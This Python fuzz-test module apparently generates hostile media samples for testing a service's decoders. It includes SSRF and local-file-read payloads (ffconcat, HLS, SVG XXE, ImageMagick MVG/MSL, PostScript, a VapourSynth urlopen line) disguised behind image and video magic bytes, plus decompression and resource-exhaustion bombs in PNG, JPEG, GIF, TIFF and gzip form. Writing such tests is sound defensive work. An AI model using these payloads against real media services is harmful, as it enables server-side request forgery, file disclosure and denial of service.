"""Known tricks: files that name others, files that claim to be vast, formats in disguise."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO

from PIL import Image

from fuzz.mutants import Sample
from reelqueue.media.facts import MediaKind

_SOS, _EOI = b"\xff\xda", b"\xff\xd9"
_VAST_WEBP = "524946461e000000574542505650384c110000002f3fdfcf170750e42ad4a3808188e87f0000"
_TEXTS = {
    "concat": "ffconcat version 1.0\nfile '{path}'\n",
    "concat_url": "ffconcat version 1.0\nfile '{url}/concat.mp4'\n",
    "playlist": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}/a.ts\n#EXT-X-ENDLIST\n",
    "playlist_file": "#EXTM3U\n#EXTINF:1,\nfile://{path}\n#EXT-X-ENDLIST\n",
    "playlist_concat": "#EXTM3U\n#EXTINF:1,\nconcat:{url}/a|file://{path}\n#EXT-X-ENDLIST\n",
    "playlist_key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:1,\n{url}/a.ts\n',
    "dash": '<?xml version="1.0"?><MPD><Period><BaseURL>{url}/</BaseURL></Period></MPD>',
    "session": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
    "svg": '<svg xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="{url}/a.png"/></svg>',
    "svg_file": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{path}">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
    "mvg": "push graphic-context\nimage over 0,0 0,0 'url({url}/a.png)'\npop graphic-context\n",
    "msl": '<image><read filename="{path}"/><write filename="/tmp/canary"/></image>',
    "postscript": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({path}) (r) file\nshowpage\n",
    "captions": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {path}\n",
    "reference": "[reference]\nRef1={url}/a.mov\n",
    "smil": '<smil><body><video src="{url}/a.mp4"/></body></smil>',
    "vapoursynth": "import urllib.request; urllib.request.urlopen('{url}')\n",
    "avisynth": 'FFVideoSource("{path}")\n',
    "metadata": ";FFMETADATA1\ntitle={url}\n",
}
_DISGUISES = (b"", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"GIF89a")
_MEDIA_DISGUISES = (b"", b"\0\0\0\x18ftypmp42", b"OggS", b"ID3\4\0\0\0\0\0\0")
_KINDS: tuple[tuple[MediaKind, str], ...] = (("photo", "png"), ("audio", "mp3"), ("video", "mp4"))


def list_tricks(url: str, path: str) -> Iterator[tuple[str, Sample]]:
    """Yield hostile files, each with its name.

    Args:
        url: an address that no decoder may ask for.
        path: of a file that no decoder may open.
    """
    for name, text in _TEXTS.items():
        data = text.format(url=url, path=path).encode()
        for kind, ending in _KINDS:
            for number, start in enumerate(_DISGUISES if kind == "photo" else _MEDIA_DISGUISES):
                yield f"{name}:{number}:{kind}", Sample(kind, f"{name}.{ending}", start + data)
    yield "dref", Sample("video", "dref.mov", _make_reference_movie(path))
    for name, data in _list_vast_photos():
        yield name, Sample("photo", f"{name}.jpg", data)


def _list_vast_photos() -> Iterator[tuple[str, bytes]]:
    """Yield small files that decode to much, or claim to."""
    yield "webp_vast", bytes.fromhex(_VAST_WEBP)
    for width, height in ((8000, 8000), (16_384, 3906), (30_000, 30_000), (2**31 - 1, 1), (0, 0)):
        yield f"png_{width}x{height}", _make_png(width, height, zlib.compress(bytes(1 << 20)))
    yield "png_text", _make_png(8, 8, zlib.compress(bytes(80)), text=1 << 26)
    yield "png_profile", _make_png(8, 8, zlib.compress(bytes(80)), profile=1 << 26)
    jpeg = _make_jpeg(progressive=True).removesuffix(_EOI)
    yield "jpeg_scans", jpeg + jpeg[jpeg.rindex(_SOS) :] * 4000 + _EOI
    frame = _make_jpeg().index(b"\xff\xc0")
    tall = bytearray(_make_jpeg())
    tall[frame + 5 : frame + 9] = struct.pack(">HH", 16_000, 4000)
    yield "jpeg_vast", bytes(tall)
    yield "jpeg_comments", b"\xff\xd8" + b"\xff\xfe\0\2" * 500_000 + _make_jpeg()[2:]
    yield "gif_frames", _make_gif(20_000)
    yield "tiff_loop", _make_tiff([(256, 4, 1, 8), (257, 4, 1, 8)], next_page=8)
    yield "tiff_strips", _make_tiff([(256, 4, 1, 8000), (257, 4, 1, 8000), (273, 4, 8000, 8)])
    yield "tiff_bits", _make_tiff([(256, 4, 1, 9), (257, 4, 1, 9), (258, 3, 1, 65_535)])
    yield "gzip", gzip.compress(bytes(1 << 26))
    yield "zeros", bytes(1 << 22)


def _make_reference_movie(path: str) -> bytes:
    """Return a QuickTime movie whose samples lie in another file (QTFF, data reference atoms)."""
    alias = b"\0\0\0\0" + path.encode()
    dref = _make_atom(b"dref", struct.pack(">II", 0, 1) + _make_atom(b"url ", alias))
    media = _make_atom(b"minf", _make_atom(b"dinf", dref))
    track = _make_atom(b"trak", _make_atom(b"mdia", media))
    return _make_atom(b"ftyp", b"qt  \0\0\0\0qt  ") + _make_atom(b"moov", track)


def _make_atom(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def _make_png(width: int, height: int, pixels: bytes, text: int = 0, profile: int = 0) -> bytes:
    """Return a PNG of 8-bit grey, with a compressed text or profile of some bytes."""
    chunks = [b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)]
    if text:
        chunks.append(b"zTXtcomment\0\0" + zlib.compress(bytes(text)))
    if profile:
        chunks.append(b"iCCPprofile\0\0" + zlib.compress(bytes(profile)))
    chunks += [b"IDAT" + pixels, b"IEND"]
    framed = (
        struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
        for chunk in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


def _make_jpeg(**options: object) -> bytes:
    file = BytesIO()
    Image.linear_gradient("L").convert("RGB").save(file, "JPEG", **options)
    return file.getvalue()


def _make_gif(frames: int) -> bytes:
    head = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
    return head + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0" * frames + b";"


def _make_tiff(entries: list[tuple[int, int, int, int]], next_page: int = 0) -> bytes:
    """Return a TIFF of one page with some entries: tag, type, count, value (TIFF 6.0, 2)."""
    page = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + page + struct.pack("<I", next_page)
